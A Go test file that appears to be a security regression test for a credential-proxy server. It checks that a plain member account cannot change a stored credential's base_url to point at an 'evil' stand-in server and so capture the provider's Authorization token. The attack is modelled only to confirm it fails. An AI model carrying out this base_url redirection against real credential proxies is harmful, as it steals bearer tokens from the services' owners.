package server_test

import (
	"net/http"
	"net/http/httptest"
	"testing"

	"github.com/gatehouse/gatehouse/server/servertest"
)

// A member re-points a tenant credential's base_url; the next proxied
// call of any granted app carries the provider token to the member's host.
func TestReviewMemberCannotRedirectProviderToken(t *testing.T) {
	up := servertest.New(t)
	provider := createApp(t, up, up.Token(), map[string]any{"name": "provider-client"})
	var stolen string
	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { stolen = r.Header.Get("Authorization") }))
	t.Cleanup(evil.Close)
	benign := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {}))
	t.Cleanup(benign.Close)
	s := servertest.New(t)
	admin := s.Token()
	integ := createApp(t, s, admin, map[string]any{"name": "integrator", "requested_scopes": []string{"credentials:use"}})
	decide(t, s, admin, integ.ID, "credentials:use", "approve")
	tool := createApp(t, s, admin, map[string]any{"name": "tool", "requested_scopes": []string{"credentials:write"}})
	decide(t, s, admin, tool.ID, "credentials:write", "approve")
	var c credential
	want(t, s.Do(http.MethodPost, "/v1/credentials", admin, map[string]any{"name": "crm", "provider": "custom", "grant_type": "client_credentials",
		"client_id": provider.ClientID, "client_secret": provider.ClientSecret, "token_url": up.URL + "/v1/oauth/token", "scopes": []string{},
		"base_url": benign.URL, "grants": []string{integ.ID}}), http.StatusCreated).JSON(t, &c)
	mallory := createUser(t, s, admin, "mallory@example.com") // member
	malTok := s.UserToken(tool.ClientID, mallory.ID, "credentials:write")
	r := s.Do(http.MethodPatch, "/v1/credentials/"+c.ID, malTok, map[string]any{"base_url": evil.URL})
	t.Logf("member PATCH base_url: %d %.120s", r.Status, r.Body)
	s.Do(http.MethodGet, "/v1/proxy/crm/x", s.TokenFor(integ.ClientID, integ.ClientSecret), nil)
	if stolen != "" {
		t.Errorf("a member's host received the provider token: %.30s…", stolen)
	}
}
